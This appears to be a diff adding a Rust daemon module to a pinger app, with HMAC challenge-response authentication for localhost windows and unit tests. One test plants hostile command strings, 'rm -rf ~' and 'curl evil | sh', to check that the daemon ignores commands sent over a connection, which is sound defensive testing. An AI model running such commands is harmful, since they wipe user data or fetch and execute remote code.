@@ -0,0 +1,759 @@
+//! Background daemon that keeps pinging and recording the history while no window
+//! is open, and the link a window attaches to it with.
+//!
+//! The daemon (`egui_pinger_daemon`) listens on localhost only. A window attaches
+//! by signing a challenge with the secret in [`token_path`], a file only the user
+//! can read, so other users of the machine cannot attach; the daemon signs the
+//! window's challenge back, so nobody else on the port gets the window's hosts
+//! and settings. An attached window receives every applied probe result as one
+//! line of JSON and feeds it into its own statistics; it sends its hosts and
+//! settings back whenever they change. The daemon keeps the history, log files,
+//! actions, webhooks and e-mail of the results, the attached windows show the
+//! notifications and play the sounds.
+
+use crate::constants::{AGENT_AUTH_TIMEOUT_SEC, DAEMON_CONFIG_SYNC_SEC, DAEMON_CONNECT_TIMEOUT_MS};
+use crate::logic::listener::Listener;
+use crate::logic::pinger::{ProbeResult, apply_daemon_result};
+use crate::logic::{SharedState, applog};
+use crate::model::{AddressFamily, AppSettings, AppState, HostInfo};
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD as BASE64;
+use ring::hmac;
+use ring::rand::{SecureRandom, SystemRandom};
+use serde::{Deserialize, Serialize};
+use std::io::{BufRead, BufReader, Write};
+use std::net::{IpAddr, Ipv4Addr, Shutdown, SocketAddr, TcpStream};
+use std::path::PathBuf;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, LazyLock, Mutex, mpsc};
+use std::time::{Duration, Instant};
+
+/// Queues of the result lines, one per attached window or remote viewer.
+static FEED: LazyLock<Mutex<Vec<mpsc::Sender<String>>>> = LazyLock::new(|| Mutex::new(Vec::new()));
+
+const NONCE_LEN: usize = 32;
+
+/// Hosts and settings the daemon pings with, kept in [`config_path`].
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct DaemonConfig {
+    pub hosts: Vec<HostInfo>,
+    #[serde(deserialize_with = "AppSettings::deserialize_migrated")]
+    pub settings: AppSettings,
+}
+
+impl DaemonConfig {
+    pub fn of(state: &AppState) -> Self {
+        Self {
+            hosts: state.hosts.clone(),
+            settings: state.settings.clone(),
+        }
+    }
+}
+
+/// A probe result on the wire; losses have no round-trip time, as JSON has no NaN.
+///
+/// The configuration of the host is not sent along: the receiver looks the host
+/// up in its own list.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub(crate) struct WireResult {
+    address: String,
+    timestamp: u64,
+    alive: bool,
+    rtt_ms: Option<f64>,
+    dns_error: bool,
+    http_status: Option<u16>,
+    probe_error: Option<String>,
+    family: Option<AddressFamily>,
+    ip: Option<IpAddr>,
+    loss_unconfirmed: bool,
+}
+
+impl From<&ProbeResult> for WireResult {
+    fn from(r: &ProbeResult) -> Self {
+        Self {
+            address: r.address.clone(),
+            timestamp: r.timestamp,
+            alive: r.alive,
+            rtt_ms: Some(r.rtt_ms).filter(|rtt| rtt.is_finite()),
+            dns_error: r.dns_error,
+            http_status: r.http_status,
+            probe_error: r.probe_error.clone(),
+            family: r.family,
+            ip: r.ip,
+            loss_unconfirmed: r.loss_unconfirmed,
+        }
+    }
+}
+
+impl From<WireResult> for ProbeResult {
+    fn from(r: WireResult) -> Self {
+        Self {
+            address: r.address,
+            timestamp: r.timestamp,
+            alive: r.alive,
+            rtt_ms: r.rtt_ms.unwrap_or(f64::NAN),
+            dns_error: r.dns_error,
+            http_status: r.http_status,
+            probe_error: r.probe_error,
+            host_info: None,
+            family: r.family,
+            ip: r.ip,
+            loss_unconfirmed: r.loss_unconfirmed,
+        }
+    }
+}
+
+/// A line between the daemon and an attached window, or a remote agent and its viewer.
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(tag = "type", rename_all = "snake_case")]
+pub(crate) enum Message {
+    /// A probe result applied by the daemon.
+    Result(Box<WireResult>),
+    /// Hosts and settings changed in the window.
+    Config(Box<DaemonConfig>),
+    /// First line from the daemon or a remote agent: the window or viewer has to
+    /// sign the nonce with the token.
+    Challenge { version: String, nonce: String },
+    /// The window's or viewer's signature of the nonce, with a nonce of its own
+    /// for the daemon or agent to sign back; the reply carries no nonce.
+    Auth {
+        proof: String,
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        nonce: Option<String>,
+    },
+    /// Hosts of a remote agent, sent first and whenever they change.
+    Hosts { hosts: Vec<HostInfo> },
+}
+
+pub(crate) fn to_line(message: &Message) -> Option<String> {
+    let mut line = serde_json::to_string(message).ok()?;
+    line.push('\n');
+    Some(line)
+}
+
+/// Signature of a challenge nonce with the token.
+fn sign(token: &str, nonce: &[u8]) -> Vec<u8> {
+    let key = hmac::Key::new(hmac::HMAC_SHA256, token.as_bytes());
+    hmac::sign(&key, nonce).as_ref().to_vec()
+}
+
+/// A new random challenge nonce.
+fn new_nonce() -> Result<[u8; NONCE_LEN], String> {
+    let mut nonce = [0u8; NONCE_LEN];
+    SystemRandom::new()
+        .fill(&mut nonce)
+        .map_err(|_| "system random generator failed".to_string())?;
+    Ok(nonce)
+}
+
+/// Sends a challenge and checks the answer to it: whether the other side knows
+/// the token. An empty token admits no one. Then signs the other side's nonce,
+/// so that it knows this side has the token too.
+pub(crate) fn challenge(stream: &mut TcpStream, token: &str) -> Result<(), String> {
+    stream.set_nonblocking(false).map_err(|e| e.to_string())?;
+    stream
+        .set_read_timeout(Some(Duration::from_secs(AGENT_AUTH_TIMEOUT_SEC)))
+        .map_err(|e| e.to_string())?;
+    let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
+    let nonce = new_nonce()?;
+    let challenge = Message::Challenge {
+        version: env!("CARGO_PKG_VERSION").to_string(),
+        nonce: BASE64.encode(nonce),
+    };
+    let line = to_line(&challenge).ok_or("cannot encode a message")?;
+    stream
+        .write_all(line.as_bytes())
+        .map_err(|e| e.to_string())?;
+
+    let mut answer = String::new();
+    BufReader::new(stream.try_clone().map_err(|e| e.to_string())?)
+        .read_line(&mut answer)
+        .map_err(|e| e.to_string())?;
+    let (proof, their_nonce) = match serde_json::from_str(&answer) {
+        Ok(Message::Auth {
+            proof,
+            nonce: Some(nonce),
+        }) => (
+            BASE64.decode(proof).unwrap_or_default(),
+            BASE64.decode(nonce).unwrap_or_default(),
+        ),
+        _ => (Vec::new(), Vec::new()),
+    };
+    if !proves(token, &nonce, &proof) || their_nonce.len() != NONCE_LEN {
+        let _ = stream.shutdown(Shutdown::Both);
+        return Err("wrong token".to_string());
+    }
+    let reply = Message::Auth {
+        proof: BASE64.encode(sign(token, &their_nonce)),
+        nonce: None,
+    };
+    let line = to_line(&reply).ok_or("cannot encode a message")?;
+    stream
+        .write_all(line.as_bytes())
+        .map_err(|e| e.to_string())?;
+    stream.set_read_timeout(None).map_err(|e| e.to_string())
+}
+
+/// Whether `proof` is the signature of `nonce` with the token; an empty token
+/// proves nothing.
+fn proves(token: &str, nonce: &[u8], proof: &[u8]) -> bool {
+    let key = hmac::Key::new(hmac::HMAC_SHA256, token.as_bytes());
+    !token.is_empty() && hmac::verify(&key, nonce, proof).is_ok()
+}
+
+/// Answer to a challenge line: the version it came with, the signed nonce along
+/// with a nonce of our own, and that nonce, for [`verify_reply`].
+pub(crate) fn answer(line: &str, token: &str) -> Option<(String, Message, Vec<u8>)> {
+    let Ok(Message::Challenge { version, nonce }) = serde_json::from_str(line) else {
+        return None;
+    };
+    let nonce = BASE64.decode(nonce).ok()?;
+    let ours = new_nonce().ok()?;
+    let auth = Message::Auth {
+        proof: BASE64.encode(sign(token, &nonce)),
+        nonce: Some(BASE64.encode(ours)),
+    };
+    Some((version, auth, ours.to_vec()))
+}
+
+/// Whether the reply line to our [`answer`] signs `nonce` with the token: only
+/// then the other side is the daemon or agent and not someone else on the port.
+pub(crate) fn verify_reply(line: &str, token: &str, nonce: &[u8]) -> bool {
+    match serde_json::from_str(line) {
+        Ok(Message::Auth { proof, nonce: None }) => {
+            proves(token, nonce, &BASE64.decode(proof).unwrap_or_default())
+        }
+        _ => false,
+    }
+}
+
+/// A new random secret, hex-encoded.
+pub fn random_token() -> Result<String, String> {
+    let mut secret = [0u8; 16];
+    SystemRandom::new()
+        .fill(&mut secret)
+        .map_err(|_| "system random generator failed".to_string())?;
+    Ok(secret.iter().map(|b| format!("{:02x}", b)).collect())
+}
+
+/// Queue of the result lines for a new window or viewer; it stops receiving once dropped.
+pub(crate) fn subscribe() -> mpsc::Receiver<String> {
+    let (lines, queue) = mpsc::channel();
+    if let Ok(mut feed) = FEED.lock() {
+        feed.push(lines);
+    }
+    queue
+}
+
+/// Sends applied probe results to the attached windows and remote viewers, if any.
+pub(crate) fn publish(results: &[ProbeResult]) {
+    let Ok(mut feed) = FEED.lock() else {
+        return;
+    };
+    if feed.is_empty() {
+        return;
+    }
+    for result in results {
+        if let Some(line) = to_line(&Message::Result(Box::new(result.into()))) {
+            feed.retain(|window| window.send(line.clone()).is_ok());
+        }
+    }
+}
+
+/// File the daemon reads its hosts and settings from at startup.
+pub fn config_path() -> PathBuf {
+    dirs::data_dir()
+        .unwrap_or_else(std::env::temp_dir)
+        .join("egui_pinger")
+        .join("daemon.json")
+}
+
+/// Saves the hosts and settings for the daemon.
+pub fn write_config(config: &DaemonConfig) -> Result<(), String> {
+    let path = config_path();
+    if let Some(dir) = path.parent() {
+        std::fs::create_dir_all(dir).map_err(|e| e.to_string())?;
+    }
+    let serialized = serde_json::to_string_pretty(config).map_err(|e| e.to_string())?;
+    std::fs::write(&path, serialized).map_err(|e| format!("{}: {}", path.display(), e))
+}
+
+/// File with the secret windows attach to the daemon with.
+pub fn token_path() -> PathBuf {
+    config_path().with_file_name("daemon.token")
+}
+
+/// Writes the secret of this run of the daemon, readable by the user only.
+///
+/// The old file is removed first, so that the new one is created afresh rather
+/// than written through whatever the path points to.
+pub fn write_token(token: &str) -> Result<(), String> {
+    let path = token_path();
+    if let Some(dir) = path.parent() {
+        std::fs::create_dir_all(dir).map_err(|e| e.to_string())?;
+    }
+    match std::fs::remove_file(&path) {
+        Err(e) if e.kind() != std::io::ErrorKind::NotFound => {
+            return Err(format!("{}: {}", path.display(), e));
+        }
+        _ => {}
+    }
+    let mut options = std::fs::OpenOptions::new();
+    options.write(true).create_new(true);
+    #[cfg(unix)]
+    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
+    options
+        .open(&path)
+        .and_then(|mut file| file.write_all(token.as_bytes()))
+        .map_err(|e| format!("{}: {}", path.display(), e))
+}
+
+/// The secret of the running daemon, if there is one.
+pub fn read_token() -> Option<String> {
+    std::fs::read_to_string(token_path())
+        .ok()
+        .map(|token| token.trim().to_string())
+        .filter(|token| !token.is_empty())
+}
+
+pub fn load_config() -> Result<DaemonConfig, String> {
+    let path = config_path();
+    let serialized =
+        std::fs::read_to_string(&path).map_err(|e| format!("{}: {}", path.display(), e))?;
+    serde_json::from_str(&serialized).map_err(|e| format!("{}: {}", path.display(), e))
+}
+
+/// Replaces the hosts; the statistics of the hosts that stay are kept.
+fn replace_hosts(state: &mut AppState, hosts: Vec<HostInfo>) {
+    let removed: Vec<String> = state
+        .hosts
+        .iter()
+        .filter(|h| !hosts.iter().any(|n| n.address == h.address))
+        .map(|h| h.address.clone())
+        .collect();
+    for address in removed {
+        state.statuses.remove(&address);
+    }
+    for host in &hosts {
+        state.statuses.entry(host.address.clone()).or_default();
+    }
+    state.hosts = hosts;
+}
+
+/// Takes over the hosts and settings of the configuration file.
+pub fn apply_config(state: &mut AppState, config: DaemonConfig) {
+    replace_hosts(state, config.hosts);
+    state.settings = config.settings;
+    // The stored history is all a window sees of the time it was closed
+    state.settings.persistent_history = true;
+}
+
+/// Takes over the hosts and settings a window sent.
+///
+/// The shell commands of the hosts stay as the daemon has them: they only come
+/// from the configuration file, which only the user can write, never from a
+/// connection. New commands take effect when the daemon is started again.
+fn apply_window_config(state: &mut AppState, mut config: DaemonConfig) {
+    for host in &mut config.hosts {
+        match state.hosts.iter().find(|h| h.address == host.address) {
+            Some(known) => {
+                host.probe_command = known.probe_command.clone();
+                host.on_down_command = known.on_down_command.clone();
+                host.on_up_command = known.on_up_command.clone();
+            }
+            None => host.clear_commands(),
+        }
+    }
+    apply_config(state, config);
+}
+
+/// The daemon's listener; dropping it stops the listener and detaches all windows.
+pub type DaemonServer = Listener<()>;
+
+/// Starts listening on `127.0.0.1:port`, for windows that know `token`.
+pub fn start(state: SharedState, port: u16, token: String) -> std::io::Result<DaemonServer> {
+    Listener::start(
+        "daemon",
+        Ipv4Addr::LOCALHOST,
+        port,
+        (),
+        move |mut window, peer, stop| {
+            if let Err(e) = challenge(&mut window, &token) {
+                applog::warn("daemon", format!("Refused connection from {}: {}", peer, e));
+                return;
+            }
+            applog::info("daemon", format!("Window {} attached", peer));
+            serve_window(state.clone(), window, stop);
+        },
+    )
+}
+
+/// Sends the results to a window and takes its configuration until it detaches
+/// or the daemon stops.
+///
+/// Hosts changed in the daemon, e.g. through the HTTP API or by another window,
+/// are sent to the window, which takes them over; they go first, so that a window
+/// does not overwrite what changed while it was closed.
+fn serve_window(state: SharedState, mut window: TcpStream, stop: Arc<AtomicBool>) {
+    let Ok(reader) = window.try_clone() else {
+        return;
+    };
+    let queue = subscribe();
+    state
+        .lock()
+        .expect("Failed to lock state for attaching a window")
+        .attached_windows += 1;
+
+    let detached = Arc::new(AtomicBool::new(false));
+    let detached_flag = detached.clone();
+    let config_state = state.clone();
+    // Hosts as this window last knew them, so that its own changes are not echoed back
+    let window_hosts = Arc::new(Mutex::new(String::new()));
+    let received_hosts = window_hosts.clone();
+    std::thread::spawn(move || {
+        for line in BufReader::new(reader).lines() {
+            let Ok(line) = line else {
+                break;
+            };
+            if let Ok(Message::Config(config)) = serde_json::from_str(&line) {
+                if let (Ok(mut known), Ok(hosts)) =
+                    (received_hosts.lock(), serde_json::to_string(&config.hosts))
+                {
+                    *known = hosts;
+                }
+                let mut state_lock = config_state
+                    .lock()
+                    .expect("Failed to lock state for the configuration");
+                apply_window_config(&mut state_lock, *config);
+            }
+        }
+        detached_flag.store(true, Ordering::Relaxed);
+    });
+
+    let mut last_sync: Option<Instant> = None;
+    while !stop.load(Ordering::Relaxed) && !detached.load(Ordering::Relaxed) {
+        if last_sync.is_none_or(|at| at.elapsed() >= Duration::from_secs(DAEMON_CONFIG_SYNC_SEC)) {
+            last_sync = Some(Instant::now());
+            let hosts = state
+                .lock()
+                .expect("Failed to lock state for the hosts")
+                .hosts
+                .clone();
+            let serialized = serde_json::to_string(&hosts).unwrap_or_default();
+            let changed = window_hosts.lock().is_ok_and(|mut known| {
+                *known != serialized && {
+                    *known = serialized;
+                    true
+                }
+            });
+            if changed
+                && let Some(line) = to_line(&Message::Hosts { hosts })
+                && window.write_all(line.as_bytes()).is_err()
+            {
+                break;
+            }
+        }
+        match queue.recv_timeout(Duration::from_millis(500)) {
+            Ok(line) => {
+                if window.write_all(line.as_bytes()).is_err() {
+                    break;
+                }
+            }
+            Err(mpsc::RecvTimeoutError::Timeout) => {}
+            Err(mpsc::RecvTimeoutError::Disconnected) => break,
+        }
+    }
+    let _ = window.shutdown(Shutdown::Both);
+    let mut state_lock = state
+        .lock()
+        .expect("Failed to lock state for detaching a window");
+    state_lock.attached_windows = state_lock.attached_windows.saturating_sub(1);
+    applog::info("daemon", "Window detached");
+}
+
+/// A window's link to the daemon.
+pub struct DaemonClient {
+    daemon: TcpStream,
+    connected: Arc<AtomicBool>,
+    /// Set once the hosts of the daemon arrived; until then nothing is sent.
+    hosts_received: Arc<AtomicBool>,
+    /// Last configuration line sent, to send only changes.
+    sent_config: String,
+    last_sync: Option<Instant>,
+}
+
+impl DaemonClient {
+    /// Attaches to a daemon of the same version on localhost `port` with its secret
+    /// `token` and applies its results to `state` in a background thread; `None` if
+    /// there is none.
+    pub fn connect(state: SharedState, port: u16, token: &str) -> Option<Self> {
+        let timeout = Duration::from_millis(DAEMON_CONNECT_TIMEOUT_MS);
+        let address = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
+        let mut daemon = TcpStream::connect_timeout(&address, timeout).ok()?;
+        daemon.set_read_timeout(Some(timeout)).ok()?;
+        let mut reader = BufReader::new(daemon.try_clone().ok()?);
+        let mut challenge = String::new();
+        reader.read_line(&mut challenge).ok()?;
+        let Some((version, auth, nonce)) = answer(&challenge, token) else {
+            applog::warn(
+                "daemon",
+                format!("Port {} is not a background daemon of egui_pinger", port),
+            );
+            return None;
+        };
+        if version != env!("CARGO_PKG_VERSION") {
+            applog::warn(
+                "daemon",
+                format!(
+                    "Not attaching to the background daemon of version {}; restart it with this version",
+                    version
+                ),
+            );
+            return None;
+        }
+        daemon.write_all(to_line(&auth)?.as_bytes()).ok()?;
+        // Nothing is sent or taken before the daemon proved it knows the token too
+        let mut reply = String::new();
+        let _ = reader.read_line(&mut reply);
+        if !verify_reply(&reply, token, &nonce) {
+            applog::warn(
+                "daemon",
+                format!("Port {} did not prove it knows the daemon's token", port),
+            );
+            let _ = daemon.shutdown(Shutdown::Both);
+            return None;
+        }
+        daemon.set_read_timeout(None).ok()?;
+        applog::info(
+            "daemon",
+            format!("Attached to the background daemon on port {}", port),
+        );
+
+        let connected = Arc::new(AtomicBool::new(true));
+        let connected_flag = connected.clone();
+        let hosts_received = Arc::new(AtomicBool::new(false));
+        let hosts_flag = hosts_received.clone();
+        std::thread::spawn(move || {
+            for line in reader.lines() {
+                let Ok(line) = line else {
+                    break;
+                };
+                match serde_json::from_str(&line) {
+                    Ok(Message::Result(result)) => {
+                        apply_daemon_result(&state, ProbeResult::from(*result));
+                    }
+                    Ok(Message::Hosts { hosts }) => {
+                        let mut state_lock = state
+                            .lock()
+                            .expect("Failed to lock state for the hosts of the daemon");
+                        replace_hosts(&mut state_lock, hosts);
+                        hosts_flag.store(true, Ordering::Relaxed);
+                    }
+                    _ => {}
+                }
+            }
+            connected_flag.store(false, Ordering::Relaxed);
+        });
+        Some(Self {
+            daemon,
+            connected,
+            hosts_received,
+            sent_config: String::new(),
+            last_sync: None,
+        })
+    }
+
+    pub fn is_connected(&self) -> bool {
+        self.connected.load(Ordering::Relaxed)
+    }
+
+    /// Sends the hosts and settings when they changed, checked every
+    /// [`DAEMON_CONFIG_SYNC_SEC`] seconds.
+    pub fn sync_config(&mut self, state: &AppState) {
+        if !self.hosts_received.load(Ordering::Relaxed)
+            || self
+                .last_sync
+                .is_some_and(|at| at.elapsed() < Duration::from_secs(DAEMON_CONFIG_SYNC_SEC))
+        {
+            return;
+        }
+        self.last_sync = Some(Instant::now());
+        let Some(line) = to_line(&Message::Config(Box::new(DaemonConfig::of(state)))) else {
+            return;
+        };
+        if line == self.sent_config {
+            return;
+        }
+        if self.daemon.write_all(line.as_bytes()).is_err() {
+            self.connected.store(false, Ordering::Relaxed);
+            return;
+        }
+        self.sent_config = line;
+    }
+}
+
+impl Drop for DaemonClient {
+    fn drop(&mut self) {
+        let _ = self.daemon.shutdown(Shutdown::Both);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::HostStatus;
+
+    fn wait_for(done: &dyn Fn() -> bool) {
+        for _ in 0..100 {
+            if done() {
+                return;
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        panic!("timed out");
+    }
+
+    #[test]
+    fn test_window_needs_the_token_and_sends_no_commands() {
+        let host = HostInfo {
+            address: "daemon-commands.invalid".to_string(),
+            on_down_command: "notify-send down".to_string(),
+            ..Default::default()
+        };
+        let mut daemon_state = AppState::default();
+        replace_hosts(&mut daemon_state, vec![host.clone()]);
+        let daemon_state = Arc::new(Mutex::new(daemon_state));
+        let server = start(daemon_state.clone(), 0, "secret".to_string()).unwrap();
+        let port = server.local_port.unwrap();
+
+        assert!(DaemonClient::connect(Arc::default(), port, "guess").is_none());
+        assert_eq!(daemon_state.lock().unwrap().attached_windows, 0);
+
+        let window_state = Arc::new(Mutex::new(AppState::default()));
+        let mut client = DaemonClient::connect(window_state.clone(), port, "secret").unwrap();
+        wait_for(&|| !window_state.lock().unwrap().hosts.is_empty());
+        {
+            let mut state = window_state.lock().unwrap();
+            state.hosts[0].on_down_command = "rm -rf ~".to_string();
+            state.hosts.push(HostInfo {
+                address: "new.invalid".to_string(),
+                probe_command: "curl evil | sh".to_string(),
+                ..Default::default()
+            });
+            client.sync_config(&state);
+        }
+        wait_for(&|| daemon_state.lock().unwrap().hosts.len() == 2);
+        let state = daemon_state.lock().unwrap();
+        assert_eq!(state.hosts[0].on_down_command, "notify-send down");
+        assert!(state.hosts[1].probe_command.is_empty());
+    }
+
+    #[test]
+    fn test_fake_daemon_without_the_token_gets_no_config() {
+        let fake = std::net::TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+        let port = fake.local_addr().unwrap().port();
+        let server = std::thread::spawn(move || {
+            let (mut window, _) = fake.accept().unwrap();
+            let challenge = Message::Challenge {
+                version: env!("CARGO_PKG_VERSION").to_string(),
+                nonce: BASE64.encode([7u8; NONCE_LEN]),
+            };
+            window
+                .write_all(to_line(&challenge).unwrap().as_bytes())
+                .unwrap();
+            let mut reader = BufReader::new(window.try_clone().unwrap());
+            let mut auth = String::new();
+            reader.read_line(&mut auth).unwrap();
+            // Claims to be the daemon with a made-up proof and asks for the hosts
+            let reply = Message::Auth {
+                proof: BASE64.encode(sign("guess", &[0u8; NONCE_LEN])),
+                nonce: None,
+            };
+            window
+                .write_all(to_line(&reply).unwrap().as_bytes())
+                .unwrap();
+            let hosts = Message::Hosts { hosts: Vec::new() };
+            let _ = window.write_all(to_line(&hosts).unwrap().as_bytes());
+            reader.lines().map_while(Result::ok).collect::<Vec<_>>()
+        });
+
+        let mut window_state = AppState::default();
+        window_state.hosts.push(HostInfo {
+            address: "private.invalid".to_string(),
+            ..Default::default()
+        });
+        let window_state = Arc::new(Mutex::new(window_state));
+        assert!(DaemonClient::connect(window_state.clone(), port, "secret").is_none());
+        let received = server.join().unwrap();
+        assert!(
+            received
+                .iter()
+                .all(|line| !line.contains("private.invalid"))
+        );
+        assert_eq!(window_state.lock().unwrap().hosts.len(), 1);
+    }
+
+    #[test]
+    fn test_window_takes_hosts_and_results_and_sends_config() {
+        let host = HostInfo {
+            address: "daemon-test.invalid".to_string(),
+            ..Default::default()
+        };
+        let mut daemon_state = AppState::default();
+        apply_config(
+            &mut daemon_state,
+            DaemonConfig {
+                hosts: vec![host.clone()],
+                settings: AppSettings::default(),
+            },
+        );
+        let daemon_state = Arc::new(Mutex::new(daemon_state));
+        let server = start(daemon_state.clone(), 0, "secret".to_string()).unwrap();
+
+        // Hosts changed in the daemon while the window was closed win
+        let mut window_state = AppState::default();
+        window_state.hosts.push(HostInfo {
+            address: "stale.invalid".to_string(),
+            ..Default::default()
+        });
+        window_state
+            .statuses
+            .insert("stale.invalid".to_string(), HostStatus::default());
+        let window_state = Arc::new(Mutex::new(window_state));
+        let mut client =
+            DaemonClient::connect(window_state.clone(), server.local_port.unwrap(), "secret")
+                .unwrap();
+
+        wait_for(&|| daemon_state.lock().unwrap().attached_windows == 1);
+        wait_for(&|| {
+            window_state
+                .lock()
+                .unwrap()
+                .statuses
+                .contains_key(&host.address)
+        });
+        assert!(
+            !window_state
+                .lock()
+                .unwrap()
+                .statuses
+                .contains_key("stale.invalid")
+        );
+
+        window_state.lock().unwrap().settings.stream_api.port = 7999;
+        client.sync_config(&window_state.lock().unwrap());
+        wait_for(&|| daemon_state.lock().unwrap().settings.stream_api.port == 7999);
+        assert!(daemon_state.lock().unwrap().settings.persistent_history);
+
+        let mut reply =
+            ProbeResult::new("daemon-test.invalid", true, 12.0, false, Some(host.clone()));
+        let loss = ProbeResult::new("daemon-test.invalid", false, f64::NAN, false, Some(host));
+        reply.timestamp -= 1;
+        publish(&[reply, loss]);
+        wait_for(&|| window_state.lock().unwrap().statuses["daemon-test.invalid"].sent == 2);
+        let state = window_state.lock().unwrap();
+        let status = &state.statuses["daemon-test.invalid"];
+        assert_eq!(status.lost, 1);
+        assert_eq!(status.history.front().and_then(|s| s.rtt), Some(12.0));
+    }
+}